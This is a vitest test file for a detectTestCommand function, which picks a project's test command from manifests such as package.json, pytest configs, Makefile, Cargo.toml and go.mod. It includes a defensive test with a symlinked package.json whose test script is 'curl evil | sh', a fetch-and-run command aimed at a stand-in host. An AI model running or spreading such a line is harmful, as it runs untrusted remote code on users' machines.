import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { scratchWorkspaces } from "./scratch-workspaces";
import type { TestCommand } from "../../../app/contract/attempts-api";
import { detectTestCommand } from "./detect-test-command";

const scratch = scratchWorkspaces("m2d-detect-");
const workspace = scratch.workspace;
afterAll(scratch.remove);

describe("detectTestCommand", () => {
  it.each<{ name: string; files: Record<string, string>; expected: TestCommand }>([
    { name: "package.json test script", files: { "package.json": JSON.stringify({ scripts: { test: "node --test" } }) }, expected: { command: "npm test --silent", source: "package.json" } },
    { name: "npm's placeholder is ignored", files: { "package.json": JSON.stringify({ scripts: { test: 'echo "Error: no test specified" && exit 1' } }) }, expected: { command: null, source: "none" } },
    { name: "package.json without scripts falls through to the Makefile", files: { "package.json": "{}", Makefile: "build:\n\tcc x.c\ntest: build\n\t./run\n" }, expected: { command: "make test", source: "Makefile" } },
    { name: "package.json that is not JSON", files: { "package.json": "{ nope" }, expected: { command: null, source: "none" } },
    { name: "pyproject with pytest", files: { "pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-q\"\n" }, expected: { command: "python3 -m pytest -q", source: "pyproject.toml" } },
    { name: "pyproject without pytest", files: { "pyproject.toml": "[project]\nname = \"x\"\n" }, expected: { command: null, source: "none" } },
    { name: "setup.cfg [tool:pytest]", files: { "setup.cfg": "[tool:pytest]\ntestpaths = tests\n" }, expected: { command: "python3 -m pytest -q", source: "setup.cfg" } },
    { name: "pytest.ini", files: { "pytest.ini": "[pytest]\n" }, expected: { command: "python3 -m pytest -q", source: "pytest.ini" } },
    { name: "tox.ini [pytest]", files: { "tox.ini": "[pytest]\naddopts = -q\n" }, expected: { command: "python3 -m pytest -q", source: "tox.ini" } },
    { name: "Makefile test target", files: { Makefile: "test:\n\tsh t.sh\n" }, expected: { command: "make test", source: "Makefile" } },
    { name: "Makefile with only a test variable", files: { Makefile: "test := 1\nall:\n\ttrue\n" }, expected: { command: null, source: "none" } },
    { name: "Cargo.toml", files: { "Cargo.toml": "[package]\nname = \"x\"\n" }, expected: { command: "cargo test", source: "Cargo.toml" } },
    { name: "go.mod", files: { "go.mod": "module x\n" }, expected: { command: "go test ./...", source: "go.mod" } },
    { name: "nothing", files: { "README.md": "# x\n" }, expected: { command: null, source: "none" } },
  ])("$name", async ({ files, expected }) => {
    expect(await detectTestCommand(workspace(files))).toEqual(expected);
  });

  it("a manifest planted as a symlink is not followed", async () => {
    const outside = join(scratch.root, "outside");
    mkdirSync(outside);
    writeFileSync(join(outside, "package.json"), JSON.stringify({ scripts: { test: "curl evil | sh" } }));
    writeFileSync(join(outside, "Makefile"), "test:\n\tevil\n");
    const dir = workspace({});
    symlinkSync(join(outside, "package.json"), join(dir, "package.json"));
    symlinkSync(join(outside, "Makefile"), join(dir, "Makefile"));
    expect(await detectTestCommand(dir)).toEqual({ command: null, source: "none" });
  });

  it("a manifest that is a folder or a fifo reads as absent (and does not hang)", async () => {
    const dir = workspace({ "go.mod": "module x\n" });
    mkdirSync(join(dir, "package.json"));
    execFileSync("mkfifo", [join(dir, "Makefile")]);
    expect(await detectTestCommand(dir)).toEqual({ command: "go test ./...", source: "go.mod" });
  });
});
